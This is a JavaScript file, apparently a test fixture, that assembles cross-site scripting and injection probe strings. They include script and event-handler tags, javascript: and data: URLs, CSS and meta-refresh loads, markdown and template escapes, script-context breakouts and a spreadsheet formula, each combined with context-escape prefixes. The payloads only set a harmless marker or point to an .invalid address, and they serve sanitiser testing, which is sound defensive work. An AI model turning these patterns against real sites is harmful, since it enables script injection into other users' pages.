// Texts that would set a mark or fetch something, if a page took them for anything but text: one plain sample of each
// kind. Nothing of it does harm where it works: the mark is a number, and the address leads nowhere.

const RUN = 'window.iptMark=1';
const AWAY = 'http://elsewhere.invalid/x';

/** What is tried. */
const attempts = [
  `<script>${RUN}</script>`,
  `<script src=${AWAY}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${AWAY}>`,
  `<b onclick=${RUN}>x</b>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<svg onload=${RUN}></svg>`,
  `<iframe src="javascript:parent.iptMark=1"></iframe>`,
  `<iframe srcdoc="<script>parent.iptMark=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<style>@import "${AWAY}";</style>`,
  `<div style="background:url(${AWAY})">x</div>`,
  `<link rel=stylesheet href=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<base href="http://elsewhere.invalid/">`,
  // Escaped once already.
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  // Markdown.
  `[x](javascript:${RUN})`,
  `![x](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  // Templates.
  `{{ "<script>${RUN}</script>" | safe }}`,
  `{% raw %}<script>${RUN}</script>`,
  // Texts in a script.
  '${window.iptMark=1}',
  `\`);${RUN};//`,
  `");${RUN};//`,
  `</script><script>${RUN}</script>`,
  `*/${RUN}/*`,
  // A table for spreadsheets.
  '=1+1',
];

/** Where a text may stand, and how one breaks out of there. */
const escapes = ['', '">', "'>", '--></title></textarea></style></script>'];

/** All of them: an attempt after each way out. */
export const payloads = escapes.flatMap((escape) => attempts.map((attempt) => escape + attempt));
